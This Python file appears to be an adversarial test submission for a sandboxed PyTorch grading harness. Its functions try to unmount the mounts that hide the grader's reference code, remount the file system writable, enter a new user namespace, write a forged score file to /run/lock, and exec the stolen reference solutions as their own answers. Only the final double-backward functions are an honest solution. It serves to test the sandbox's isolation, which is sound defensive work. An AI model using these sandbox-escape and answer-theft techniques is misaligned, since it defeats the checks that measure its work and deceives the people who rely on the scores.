# threat: undo the file-system isolation: unmount what hides the grader's files, remount writable, nest a user namespace
# expect: full=double-backward attacked=second-derivative-cost/values,second-derivative-cost/graph-size
"""Tries to uncover the exercises' reference code and to make the file system writable again."""

import ctypes
import os
import sys
import types

import torch

TAG = "adversarial-tag"
MNT_DETACH = 2
MS_REMOUNT, MS_BIND = 32, 4096
CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
libc = ctypes.CDLL(None, use_errno=True)


def _report(what, result):
    print(what, "ok" if result == 0 else os.strerror(ctypes.get_errno()))


def _grader_root():
    try:
        import grader

        return os.path.dirname(os.path.dirname(os.path.abspath(grader.__file__)))
    except ImportError:  # the grader's modules are refused: guess where the package lies
        return next((p for p in sys.path if os.path.isdir(os.path.join(p, "grader"))), "/")


def _uncover():
    root = _grader_root()
    for target in (os.path.join(root, "exercises"), os.path.join(root, "grader", "_exercises"), root, "/tmp", "/"):
        _report(f"umount {target}", libc.umount2(target.encode(), MNT_DETACH))
    _report("remount / writable", libc.mount(None, b"/", None, MS_REMOUNT | MS_BIND, None))
    _report("remount /run writable", libc.mount(None, b"/run", None, MS_REMOUNT | MS_BIND, None))
    _report("new user+mount namespace", libc.unshare(CLONE_NEWUSER | CLONE_NEWNS))
    _report("umount exercises there", libc.umount2(os.path.join(root, "exercises").encode(), MNT_DETACH))
    try:
        with open(f"/run/lock/results-{TAG}.json", "w") as forged:
            forged.write('{"score": 50}')
        print("wrote /run/lock")
    except OSError as error:
        print("/run/lock:", error.strerror)
    return root


def _reference(name):
    root = _uncover()
    for folder in (os.path.join(root, "exercises", "second-derivative-cost"), os.path.join(root, "grader", "_exercises", "second-derivative-cost")):
        try:
            with open(os.path.join(folder, "reference.py")) as source:
                module = types.ModuleType("stolen")
                exec(source.read(), module.__dict__)
            print("stole", name)
            return getattr(module, name)
        except OSError:
            continue
    return None


def second_derivative(f, x):
    stolen = _reference("second_derivative")
    return stolen(f, x) if stolen else torch.zeros_like(x)


def graph_size(t):
    stolen = _reference("graph_size")
    return stolen(t) if stolen else -1


# Untouched: a correct answer to the double-backward exercise.


def backward_twice(x):
    x = x.detach().clone().requires_grad_(True)
    y = 2 * torch.dot(x, x)
    y.backward()
    y.backward()


def backward_twice_retained(x):
    x = x.detach().clone().requires_grad_(True)
    y = 2 * torch.dot(x, x)
    y.backward(retain_graph=True)
    y.backward()
    return x.grad


def backward_twice_zeroed(x):
    x = x.detach().clone().requires_grad_(True)
    y = 2 * torch.dot(x, x)
    y.backward(retain_graph=True)
    x.grad.zero_()
    y.backward()
    return x.grad
